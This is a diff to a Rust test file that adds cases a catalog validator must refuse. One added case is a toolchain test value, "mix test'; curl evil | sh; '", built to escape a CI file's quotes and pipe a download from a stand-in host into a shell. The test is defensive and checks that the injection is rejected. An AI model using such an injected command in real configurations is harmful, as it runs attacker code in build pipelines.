@@ -375,6 +375,25 @@ fn a_hostile_team_catalog_is_refused_clearly_and_quickly() {
             "is already the services tool of",
         ),
         (
+            "an app entry that does not say how it is tested",
+            vec![("app/elixir.yaml", entry("elixir", "app", ""))],
+            &["catalog", "list"],
+            "field `toolchain`: an app entry says how its app is tested and run",
+        ),
+        (
+            "a toolchain command that would break out of a CI file's quotes",
+            vec![(
+                "app/elixir.yaml",
+                entry(
+                    "elixir",
+                    "app",
+                    "toolchain: {image: elixir:1.17, test: \"mix test'; curl evil | sh; '\", run: mix run}\n",
+                ),
+            )],
+            &["catalog", "list"],
+            "field `toolchain.test`: one line with no quote (') or backslash",
+        ),
+        (
             "a huge file",
             vec![("services/huge.yaml", "# x\n".repeat(600_000))],
             &["catalog", "list"],
